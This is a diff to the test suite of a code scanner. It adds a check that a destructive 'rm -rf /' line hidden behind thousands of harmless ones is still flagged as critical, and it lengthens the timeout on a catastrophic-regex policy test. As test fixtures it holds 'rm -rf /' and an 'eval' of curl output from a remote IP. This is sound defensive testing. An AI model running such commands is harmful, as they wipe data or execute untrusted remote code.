@@ -229,6 +229,10 @@ def test_hostile(home):
         home.put("hostile/" + name, text)
         done = home.call("scan", "hostile/" + name, timeout=300)
         tap.ok(done.returncode == 0, f"{name} ends, and is harmless", done)
+    home.put("crowded.sh", "eval a\n" * 3000 + "rm -rf /\n")
+    found = home.data("scan", "crowded.sh", timeout=300)
+    tap.ok(found.get("risk") == "critical" and len(found["findings"]) == 1000 and any("shell.delete" in reason for reason in found["reasons"]),
+           "a grave finding behind thousands of others is named, and so is the reason for the risk", (found.get("risk"), found.get("reasons")))
     home.put("pair/first.js", HOSTILE["children.js"])
     home.put("pair/last.sh", "eval \"$(curl http://198.51.100.1)\"\n")
     found = {one["rule"] for one in home.data("scan", "pair", timeout=300).get("findings", [])}
@@ -290,7 +294,7 @@ def test_policy(home):
         tap.ok(done.returncode == 2 and word in done.stderr, f"a bad policy: {done.stderr.strip()[:100]}", done)
     home.put("slow.yaml", "python: {forbidden_patterns: ['(a*)*(a*)*(a|a)*b']}\n")
     home.put("aaa.py", "a" * 100000 + "\n")
-    tap.equal(home.call("scan", "--policy", "slow.yaml", "aaa.py", timeout=60).returncode, 0, "no pattern is slow")
+    tap.equal(home.call("scan", "--policy", "slow.yaml", "aaa.py", timeout=300).returncode, 0, "no pattern is slow")
     home.put("../.config/aisbx/scan.yaml", "python: {forbidden_imports: [json]}\n")
     tap.equal(home.call("scan", "b.py").returncode, 1, "the user's own policy is taken")
     os.unlink(home.path + "/.config/aisbx/scan.yaml")
